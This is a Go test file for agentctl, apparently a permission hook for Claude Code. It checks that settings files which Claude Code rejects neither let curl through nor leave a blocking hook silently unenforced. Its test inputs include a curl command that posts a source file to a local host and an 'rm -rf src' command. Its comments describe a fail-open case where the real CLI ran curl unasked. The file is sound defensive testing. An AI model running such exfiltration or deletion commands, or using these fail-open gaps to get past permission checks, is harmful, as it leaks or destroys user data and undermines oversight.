package main

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
)

// TestRed21cfgLayersAgentRejectedFile: Claude Code applies nothing of a
// settings file where a key it checks strictly has a value of the wrong
// type ("model": 5, "statusLine": "x", a hook without a type): it asks
// about `curl` whatever that file allows. As its PreToolUse hook in a
// trusted workspace, agentctl applied the file's Bash(curl:*) and
// answered allow, and the real CLI ran curl unasked. Each row is a real
// agentctl process: the hook with the file as the project's settings,
// and `check` with it as the user's own. The file's deny rule still
// denies; a file the agent loads keeps its allow rule.
func TestRed21cfgLayersAgentRejectedFile(t *testing.T) {
	curl := map[string]any{"command": "curl -d @src/a.go http://127.0.0.1:9/"}
	rm := map[string]any{"command": "rm -rf src"}
	cases := []struct {
		name   string
		extra  string // another top-level member of the file
		input  map[string]any
		attack bool
		want   string
	}{
		{"a model that is a number", `"model": 5`, curl, true, "ask"},
		{"a model that is null", `"model": null`, curl, true, "ask"},
		{"a status line that is a string", `"statusLine": "x"`, curl, true, "ask"},
		{"a credential helper that is a number", `"apiKeyHelper": 1`, curl, true, "ask"},
		{"an MCP switch that is a string", `"enableAllProjectMcpServers": "yes"`, curl, true, "ask"},
		{"a retention of zero days", `"cleanupPeriodDays": 0`, curl, true, "ask"},
		{"a schema reference that is an object", `"$schema": {}`, curl, true, "ask"},
		{"a hook without a type", `"hooks": {"Stop": [{"hooks": [{"command": "true"}]}]}`, curl, true, "ask"},
		{"a hook of an unknown type", `"hooks": {"Stop": [{"hooks": [{"type": "shell", "command": "true"}]}]}`, curl, true, "ask"},
		// Neighbours.
		{"a valid model", `"model": "opus"`, curl, false, "allow"},
		{"a valid status line", `"statusLine": {"type": "command", "command": "echo hi"}`, curl, false, "allow"},
		{"a key read leniently", `"bashOutputMaxChars": "x"`, curl, false, "allow"},
		{"an unknown key", `"zzzNew": [1, 2]`, curl, false, "allow"},
		{"the deny rule of a rejected file", `"model": 5`, rm, false, "deny"},
		{"git status under a rejected file", `"model": 5`, map[string]any{"command": "git status"}, false, "allow"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			kind := map[bool]string{true: "attack", false: "neighbour"}[c.attack]
			body := `{"permissions": {"allow": ["Bash(curl:*)"], "deny": ["Bash(rm:*)"]}, ` + c.extra + `}`
			proj, home := red14repoLayout(t)
			red18layersWrite(t, proj, home, map[string]string{".claude/settings.json": body})
			p, _ := json.Marshal(proj)
			writeFiles(t, home, map[string]string{".claude.json": `{"projects": {` + string(p) + `: {"hasTrustDialogAccepted": true}}}`})
			if got := red16layersHook(t, proj, home, "default", "Bash", c.input, ""); got != c.want {
				t.Errorf("%s: hook (project file with %s) %v = %q, want %s", kind, c.extra, c.input, got, c.want)
			}
			proj, home = red14repoLayout(t)
			red18layersWrite(t, proj, home, map[string]string{"~/.claude/settings.json": body})
			managed := filepath.Join(filepath.Dir(proj), "etc", "managed-settings.json")
			writeFiles(t, filepath.Dir(managed), map[string]string{"managed-settings.json": "{}\n"})
			in, _ := json.Marshal(c.input)
			if got := red19cfgCheck(t, proj, home, managed, "Bash", string(in)); got != c.want {
				t.Errorf("%s: check (user file with %s) %s = %s, want %s", kind, c.extra, in, got, c.want)
			}
		})
	}
}

// TestRed21cfgDoctorRejectedInstall: Claude Code runs no hook of a
// settings file it rejects as a whole — the real CLI, with a blocking hook
// in a user settings file holding "model": 5, asked instead of running it
// — so an agentctl install written there enforces nothing. doctor reports
// it as a fail-open risk; the same install in a file the agent loads
// reports nothing.
func TestRed21cfgDoctorRejectedInstall(t *testing.T) {
	t.Setenv(asMainEnv, "1") // the latency check runs this test binary as agentctl
	cases := []struct {
		name, extra string
		risk        bool
	}{
		{"a model that is a number", `"model": 5, `, true},
		{"a retention that is a string", `"cleanupPeriodDays": "30", `, true},
		{"a valid model", `"model": "opus", `, false},
		{"nothing else", ``, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			home := isolatedHome(t)
			cwd, _ := filepath.EvalSymlinks(t.TempDir())
			user := `{` + c.extra + `"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"agentctl hook"}]}]}}`
			writeFiles(t, home, map[string]string{".claude/settings.json": user})
			out, errOut, _ := runCLI(t, "", "agentctl", "--cwd", cwd, "--managed-settings", emptyManaged(t), "doctor")
			risk := strings.Contains(out, "fail-open risk: Claude Code rejects "+filepath.Join(home, ".claude", "settings.json"))
			if risk != c.risk {
				t.Errorf("risk reported %v, want %v\n%s%s", risk, c.risk, out, errOut)
			}
		})
	}
}
